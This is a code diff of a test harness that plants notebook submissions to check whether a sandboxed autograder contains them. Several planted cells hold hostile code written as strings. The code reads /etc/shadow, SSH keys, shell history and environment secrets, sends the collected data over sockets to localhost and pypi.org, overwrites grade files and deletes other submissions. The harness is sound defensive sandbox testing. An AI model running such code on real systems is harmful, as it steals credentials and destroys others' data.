@@ -60,7 +60,7 @@ def forward(wrong: dict[str, tuple[str, str]], nb: nbformat.NotebookNode) -> nbf
     return nb
 
 
-def plant_02_gradient(solution: Path, student: Path, folder: Path, dropbox: Path) -> dict:
+def plant_02_gradient(solution: Path, student: Path, folder: Path) -> dict:
     """Write the planted 02_gradient submissions into folder; return {file: expected}.
 
     expected: dict with the per-question points (q1, q2, q3), and status.
@@ -205,34 +205,10 @@ def plant_02_gradient(solution: Path, student: Path, folder: Path, dropbox: Path
         {**zero, "status": "ok"},
     )
 
-    # Reads what it can outside its folder and reports it through a file outside its folder
-    # (the sandbox lets it do neither: no report is ever written).
-    probe = (
-        "import json, os\n"
-        "\n"
-        "seen = {\n"
-        '    "env_secret": os.environ.get("GRADING_TEST_SECRET"),\n'
-        '    "home": os.path.expanduser("~"),\n'
-        '    "cwd": os.getcwd(),\n'
-        '    "siblings": sorted(os.listdir("..")),\n'
-        '    "parent_siblings": sorted(os.listdir("../..")),\n'
-        "}\n"
-        "try:\n"
-        f'    seen["secret_file"] = open({str(dropbox.parent / "secret.txt")!r}).read()\n'
-        "except OSError as e:\n"
-        '    seen["secret_file"] = repr(e)\n'
-        "try:\n"
-        "    big = np.ones(2**30)  # 8 GiB\n"
-        '    seen["memory"] = "allocated"\n'
-        "    del big\n"
-        "except MemoryError:\n"
-        '    seen["memory"] = "MemoryError"\n'
-        f"with open({str(dropbox)!r}, 'w') as f:\n"
-        "    json.dump(seen, f)"
-    )
-    plants["cheat_read_outside"] = (
-        insert_cell(all_wrong, first_answer_cell(all_wrong), probe),
-        {**zero, "status": "ok"},
+    # An 8 GiB allocation among right answers: MemoryError in that cell, the rest graded.
+    plants["huge_allocation"] = (
+        insert_cell(sol, first_answer_cell(sol), "big = np.ones(2**30)  # 8 GiB"),
+        {**full, "status": "ok"},
     )
 
     # Forging otter's own results from inside the kernel: the documented limit.
@@ -385,11 +361,16 @@ def plant_hostile_02_gradient(solution: Path, folder: Path, targets: dict) -> di
         index = len(all_wrong.cells) if at_end else first_answer_cell(all_wrong)
         plants[name] = (insert_cell(all_wrong, index, source), expected)
 
-    # Reads every secret it can think of and shows it everywhere it can: printed, raised in a
-    # cell error, written into its public test output (by failing with it), saved to files.
+    # Reaches out every way it can think of, and shows what it got everywhere it can (printed,
+    # raised in a cell error, in its public test output, saved to files):
+    # - reads secrets: in your HOME, next to the repository, /etc/shadow, other processes'
+    #   environments and command lines;
+    # - connects: to the test's listener on 127.0.0.1, to the outside world;
+    # - writes: into OUT (a new file, the CSV, another student's log), into SUBMISSIONS (deletes
+    #   one, edits one), into the other submissions' scratch folders.
     hostile(
-        "hostile_read_secrets",
-        "import glob, os\n"
+        "hostile_reach_out",
+        "import glob, os, socket, urllib.request\n"
         "found = []\n"
         f"for path in [{t['home_secret']!r}, {t['repo_secret']!r}, '/etc/shadow',\n"
         "             os.path.expanduser('~/.ssh/id_rsa'), '/root/.bash_history',\n"
@@ -401,37 +382,20 @@ def plant_hostile_02_gradient(solution: Path, folder: Path, targets: dict) -> di
         "found.append(repr(dict(os.environ)))\n"
         "loot = '\\n'.join(found)\n"
         "print(loot)\n"
-        "def numerical_diff(f, x):  # the public test's error message shows it\n"
-        "    raise RuntimeError(loot[-3000:])\n"
         "open('loot.txt', 'w').write(loot)\n"
-        "raise RuntimeError(loot[-2000:])",
-        {**zero, "status": "ok"},
-        at_end=True,
-    )
-    # Network: the test's listener on 127.0.0.1, and the outside world.
-    hostile(
-        "hostile_network",
-        "import socket, urllib.request\n"
         "for target in [('127.0.0.1', " + t["port"] + "), ('pypi.org', 443)]:\n"
         "    try:\n"
-        "        socket.create_connection(target, timeout=3).sendall(b'hello from the sandbox')\n"
+        "        socket.create_connection(target, timeout=3).sendall(loot.encode())\n"
         "        print('connected', target)\n"
         "    except OSError as e:\n"
         "        print('no connection', target, e)\n"
         "try:\n"
         f"    urllib.request.urlopen('http://127.0.0.1:{t['port']}/', timeout=3)\n"
         "except OSError as e:\n"
-        "    print('no http', e)",
-        {**zero, "status": "ok"},
-    )
-    # Writes: the OUT folder (a new file, the CSV, another student's log), the submissions
-    # folder (delete one, edit one), the other submissions' scratch folders.
-    hostile(
-        "hostile_writes",
-        "import glob, os\n"
+        "    print('no http', e)\n"
         f"out, subs, scratch = {t['out']!r}, {t['submissions']!r}, {t['scratch']!r}\n"
         "attempts = [\n"
-        "    lambda: open(os.path.join(out, 'pwned.txt'), 'w').write('pwned'),\n"
+        "    lambda: open(os.path.join(out, 'pwned.txt'), 'w').write(loot),\n"
         "    lambda: open(os.path.join(out, 'grades.csv'), 'w').write('pwned'),\n"
         "    lambda: open(os.path.join(out, 'logs', 'solution.log'), 'w').write('pwned'),\n"
         "    lambda: os.remove(os.path.join(subs, 'solution.ipynb')),\n"
@@ -444,8 +408,12 @@ def plant_hostile_02_gradient(solution: Path, folder: Path, targets: dict) -> di
         "        attempt()\n"
         "        print('wrote')\n"
         "    except OSError as e:\n"
-        "        print('refused', e)",
+        "        print('refused', e)\n"
+        "def numerical_diff(f, x):  # the public test's error message shows it\n"
+        "    raise RuntimeError(loot[-3000:])\n"
+        "raise RuntimeError(loot[-2000:])",
         {**zero, "status": "ok"},
+        at_end=True,
     )
     # Signals: its parent, its parent's group, and any process that looks like the grader.
     hostile(
@@ -550,15 +518,12 @@ def plant_hostile_02_gradient(solution: Path, folder: Path, targets: dict) -> di
         {**zero, "status": "ok"},
     )
 
-    # Honest but unusual: a mid-notebook chdir, a syntax error in an extra cell, no otter
-    # metadata at all.
-    chdir = insert_cell(sol, first_answer_cell(sol) + 2, "import os\nos.chdir('/')")
-    plants["honest_chdir"] = (chdir, {**full, "status": "ok"})
-    syntax = insert_cell(sol, first_answer_cell(sol), "def broken(:\n    pass")
-    plants["honest_syntax_error"] = (syntax, {**full, "status": "ok"})
-    bare = copy.deepcopy(sol)
-    bare.metadata.pop("otter", None)
-    plants["honest_no_otter_metadata"] = (bare, {**full, "status": "ok"})
+    # Honest but unusual, all in one notebook: no otter metadata at all, a syntax error in an
+    # extra cell, a mid-notebook chdir.
+    odd = insert_cell(sol, first_answer_cell(sol) + 2, "import os\nos.chdir('/')")
+    odd = insert_cell(odd, first_answer_cell(odd), "def broken(:\n    pass")
+    odd.metadata.pop("otter", None)
+    plants["honest_oddities"] = (odd, {**full, "status": "ok"})
 
     expected = {}
     for name, (nb, exp) in plants.items():
